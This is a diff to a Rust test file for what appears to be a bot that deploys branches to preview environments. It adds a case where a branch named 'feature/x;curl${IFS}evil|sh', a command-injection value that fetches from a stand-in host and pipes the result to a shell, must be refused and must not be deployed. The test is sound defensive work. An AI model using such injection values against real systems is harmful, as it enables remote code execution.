@@ -162,7 +162,7 @@ async fn what_is_merged_makes_room_once_a_maintainer_says_so() {
 }
 
 #[tokio::test]
-async fn a_forks_branch_gets_no_place_and_an_environment_without_places_has_none() {
+async fn a_fork_s_branch_and_an_odd_name_get_no_place_and_an_environment_without_places_has_none() {
     let stage = set().await;
     let fork = stage.store.fork("mallory").await.unwrap();
     topic(&fork, "feature/cart", "integration").await;
@@ -176,6 +176,9 @@ async fn a_forks_branch_gets_no_place_and_an_environment_without_places_has_none
     )
     .await;
     assert!(stage.deployments(CART).await.is_empty());
+    let odd = opened(&stage, "feature/x;curl${IFS}evil|sh").await;
+    answered(&stage, &odd, ("ana", "/activate"), &["**Refused**", "rename the branch"]).await;
+    assert!(stage.deployments("integration/feature/x;curl${IFS}evil|sh").await.is_empty());
     let text = "version: 1\nenvironments:\n  - { name: integration, accepts: [topics] }\n  - { name: staging, accepts: [integration] }\ncopy: none\n";
     stage.configure("master", text).await;
     let own = opened(&stage, "feature/list").await;
